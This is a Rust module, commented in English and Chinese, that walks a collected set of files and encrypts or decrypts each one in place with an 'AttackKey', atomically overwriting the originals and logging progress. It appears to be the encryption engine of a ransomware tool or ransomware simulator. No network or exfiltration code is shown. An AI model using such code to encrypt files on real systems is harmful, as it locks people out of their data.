use std::collections::BTreeSet;
use std::fs;
use std::io::Write;
use std::path::Path;

use tempfile::NamedTempFile;
use tracing::{info, warn};

use crate::collect::FileEntry;
use crate::crypto::cipher::{self, CipherError};
use crate::crypto::key::AttackKey;
use crate::engine::progress::{BatchSummary, Phase, ProgressEvent};

/// Defines errors that can occur while transforming a single file.
/// These are always recovered at the batch level: the file is skipped
/// and counted, the batch continues.
//
// // 定义在变换单个文件时可能发生的错误。
// // 它们总是在批处理层被兜住：文件被跳过并计数，批处理继续。
#[derive(Debug, thiserror::Error)]
pub enum TransformError {
    /// Failed to read the file or to stage/replace the transformed copy.
    //
    // // 读取文件失败，或暂存/替换变换后的副本失败。
    #[error("I/O error: {0}")]
    Io(#[from] std::io::Error),

    /// The cipher rejected the content. On decrypt this means wrong key or
    /// tampered ciphertext; the original file is left untouched.
    //
    // // 密码组件拒绝了该内容。解密时意味着密钥错误或密文被篡改；
    // // 原始文件保持原样。
    #[error(transparent)]
    Cipher(#[from] CipherError),
}

/// 就地变换一个文件：整体读入，加密或解密，再原子地替换原文件。
///
/// 变换结果先写入同目录下的临时文件，成功后才重命名覆盖原路径，
/// 因此任何失败（包括进程被打断）都不会留下截断或半变换的文件。
pub(crate) fn transform_file(
    entry: &FileEntry,
    key: &AttackKey,
    phase: Phase,
) -> Result<(), TransformError> {
    let contents = fs::read(&entry.path)?;

    let transformed = match phase {
        Phase::Encrypt => cipher::seal(key, &contents)?,
        Phase::Decrypt => cipher::open(key, &contents)?,
    };

    replace_contents(&entry.path, &transformed)?;
    Ok(())
}

/// Runs the shared per-file loop over a collected set.
///
/// One [`ProgressEvent`] is emitted after every attempted file, skips
/// included. A per-file failure is logged and counted; the batch never
/// aborts on a single file.
//
// // 在收集到的文件集合上执行共享的逐文件循环。
// // 每个文件处理完（含跳过）发出一次进度事件；单个文件失败只记录并计数，
// // 批处理绝不因此中止。
pub(crate) fn run_batch(
    files: &BTreeSet<FileEntry>,
    key: &AttackKey,
    phase: Phase,
    on_progress: &mut dyn FnMut(ProgressEvent),
) -> BatchSummary {
    let total = files.len();
    let mut processed = 0;
    let mut skipped = 0;

    for (index, entry) in files.iter().enumerate() {
        match transform_file(entry, key, phase) {
            Ok(()) => {
                info!(path = %entry.path.display(), ?phase, "file transformed");
                processed += 1;
            }
            Err(err) => {
                warn!(path = %entry.path.display(), error = %err, ?phase, "skipping file");
                skipped += 1;
            }
        }

        on_progress(ProgressEvent {
            index: index + 1,
            total,
            phase,
        });
    }

    BatchSummary {
        processed,
        skipped,
        total,
    }
}

/// Stages `bytes` in a sibling temp file, then renames it over `path`.
/// The temp file lives in the same directory so the rename stays on one
/// filesystem and is atomic.
fn replace_contents(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    let parent = path.parent().unwrap_or_else(|| Path::new("."));

    let mut staged = NamedTempFile::new_in(parent)?;
    staged.write_all(bytes)?;
    staged.as_file().sync_all()?;
    staged.persist(path).map_err(|err| err.error)?;
    Ok(())
}
